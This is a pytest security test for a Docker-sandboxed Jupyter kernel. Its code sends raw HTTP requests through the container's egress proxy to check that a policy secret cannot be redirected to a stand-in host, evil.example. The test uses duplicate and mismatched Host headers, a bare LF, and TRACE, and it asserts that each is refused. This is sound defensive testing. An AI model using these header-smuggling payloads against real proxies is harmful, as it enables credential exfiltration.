"""Finding 3 from inside a real Docker kernel: its code writes raw bytes to its proxy (the
forwarder on the container's ``127.0.0.1:3128``, its only way out) to get the policy's secret
sent somewhere it was not meant to go. Every attempt is refused with a reason the kernel reads,
and the origins (loopback servers that record every byte, one behind TLS) never receive the
secret. The same attacks without a container, and many more of them, are in test_network.py.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from jupyter_exec import AsyncSession, NetworkPolicy
from tests.docker.conftest import docker_client, kernel_image
from tests.tls_servers import SECRET, Upstream, recording

pytestmark = pytest.mark.docker

__all__ = ["docker_client", "kernel_image"]  # the fixtures, from the Docker tests

RAW = """
import json, socket, ssl
def raw(data, tunnel=None, sni=None):
    sock = socket.create_connection(('127.0.0.1', 3128), timeout=30)
    if tunnel:
        sock.sendall(f'CONNECT {tunnel} HTTP/1.1\\r\\nHost: {tunnel}\\r\\n\\r\\n'.encode())
        head = b''
        while not head.endswith(b'\\r\\n\\r\\n'):
            head += sock.recv(1)
        sock = ssl.create_default_context().wrap_socket(sock, server_hostname=sni)
    sock.sendall(data.encode())
    out = b''
    try:
        while chunk := sock.recv(65536):
            out += chunk
    except OSError:
        pass
    return out.decode('latin-1')
"""


async def test_f3_a_docker_kernel_cannot_send_the_secret_elsewhere(
    kernel_image: str, tmp_path: Path
) -> None:
    upstream = Upstream(tmp_path)
    with (
        recording("127.0.0.1", None, "plain.test") as plain,
        recording("127.0.0.1", upstream.issue("api.test"), "api.test") as api,
    ):
        policy = NetworkPolicy(
            allow=["plain.test", "api.test", "127.0.0.1"],
            secrets={
                "plain.test": {"Authorization": SECRET},
                "api.test": {"Authorization": SECRET},
            },
            extra_ca=upstream.ca_file,
        )
        tunnel = f"api.test:{api.port}"
        attacks = {
            "plain, another Host": (
                f"GET http://plain.test:{plain.port}/ HTTP/1.1\r\nHost: evil.example\r\n\r\n",
                None,
            ),
            "two Hosts": ("GET / HTTP/1.1\r\nHost: api.test\r\nHost: evil.example\r\n\r\n", tunnel),
            "bare LF": ("GET / HTTP/1.1\r\nX-A: 1\nHost: evil.example\r\n\r\n", tunnel),
            "TRACE": ("TRACE / HTTP/1.1\r\nHost: api.test\r\n\r\n", tunnel),
            "Host not the tunnel's": ("GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n", tunnel),
        }
        async with AsyncSession(
            work_dir=tmp_path / "w",
            backend="docker",
            docker={"image": kernel_image},
            network=policy,
        ) as session:
            (await session.execute(RAW)).raise_for_error()
            code = "print(json.dumps({" + ", ".join(
                f"{name!r}: raw({data!r}, {where!r}, 'api.test')"
                for name, (data, where) in attacks.items()
            ) + "}))"  # fmt: skip
            run = await session.execute(code)
            run.raise_for_error()
            replies = json.loads(run.stdout)
            # the control: a well-formed request does get the secret added, on the right host
            fine = await session.execute(
                f"print(raw('GET /ok HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n', {tunnel!r},"
                " 'api.test').split()[1])"
            )
    assert replies["plain, another Host"].startswith("HTTP/1.1 403")
    assert f"use https://plain.test:{plain.port}/" in replies["plain, another Host"]
    assert replies["two Hosts"].startswith("HTTP/1.1 400")
    assert "two Host headers" in replies["two Hosts"]
    assert replies["bare LF"].startswith("HTTP/1.1 400")
    assert "bare LF" in replies["bare LF"]
    assert replies["TRACE"].startswith("HTTP/1.1 405")
    assert replies["Host not the tunnel's"].startswith("HTTP/1.1 421 Misdirected Request")
    assert plain.received == []
    assert fine.stdout.strip() == "200"
    # the refused ones were TLS handshakes only: one request reached api.test, the control's
    [allowed] = [data for data in api.received if data]
    assert allowed.startswith(b"GET /ok HTTP/1.1\r\n")
    assert f"Authorization: {SECRET}".encode() in allowed
    assert SECRET not in json.dumps(run.to_dict())
